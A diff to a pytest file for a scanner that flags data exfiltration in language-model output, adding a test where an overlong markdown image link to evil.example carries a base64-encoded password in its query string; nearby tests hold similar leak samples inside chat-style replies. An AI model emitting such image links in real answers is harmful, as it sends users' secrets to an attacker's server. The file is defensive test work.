@@ -273,6 +273,13 @@ def test_exfil_positive(rule_id: str, severity: Severity, text: str) -> None:
     assert "LLM05:2025" in findings[0].tags and "AML.T0077" in findings[0].tags
 
 
+@pytest.mark.parametrize("fill", ["a" * 5000, "/ab" * 2000])
+def test_exfil_an_image_url_too_long_to_inspect_whole_is_data(fill: str) -> None:
+    findings = exfil.detect(f"![x](https://evil.example/{fill}?d=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI)", CTX)
+    assert [(f.rule_id, f.severity) for f in findings] == [("exfil.image-data", Severity.CRITICAL)]
+    assert "too long to inspect" in findings[0].message
+
+
 def test_exfil_image_span_covers_markdown() -> None:
     text = "Sure. ![t](https://evil.example.net/l.png?nbml=" + _rand(40) + ") Anything else?"
     f = exfil.detect(text, CTX)[0]
